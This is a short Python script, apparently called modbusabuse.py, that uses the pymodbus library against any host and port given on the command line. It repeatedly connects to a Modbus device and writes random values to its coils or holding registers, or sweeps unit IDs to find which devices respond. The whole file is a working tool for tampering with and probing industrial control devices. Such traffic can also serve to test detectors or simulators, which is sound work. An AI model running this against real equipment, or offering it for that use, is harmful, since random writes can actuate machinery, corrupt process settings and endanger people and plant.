"""Modbus used badly: write coils or registers by the dozen, or ask every unit there may be (pymodbus)."""

from __future__ import annotations

import random
import sys
import time

from pymodbus.client import ModbusTcpClient
from pymodbus.exceptions import ModbusException


def main() -> None:
    """modbusabuse.py HOST PORT coils|registers|units TIMES WRITES: so many connections with so many requests each."""
    host, port, what, times, writes = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
    for number in range(times):
        client = ModbusTcpClient(host, port=port, timeout=2, retries=0)
        client.connect()
        try:
            for _ in range(writes):
                place = random.randrange(200)
                if what == "coils" and number % 2:
                    client.write_coils(place, [random.random() < 0.5 for _ in range(40)], device_id=1)
                elif what == "coils":
                    client.write_coil(place, random.random() < 0.5, device_id=1)
                elif what == "registers":
                    client.write_registers(
                        place, [random.randrange(65536) for _ in range(30)], device_id=1 + number % 3
                    )
                else:
                    client.read_holding_registers(0, count=1, device_id=1 + number)
                    client.read_coils(0, count=1, device_id=1 + number)
        except ModbusException:
            pass
        client.close()
        time.sleep(0.3)


if __name__ == "__main__":
    main()
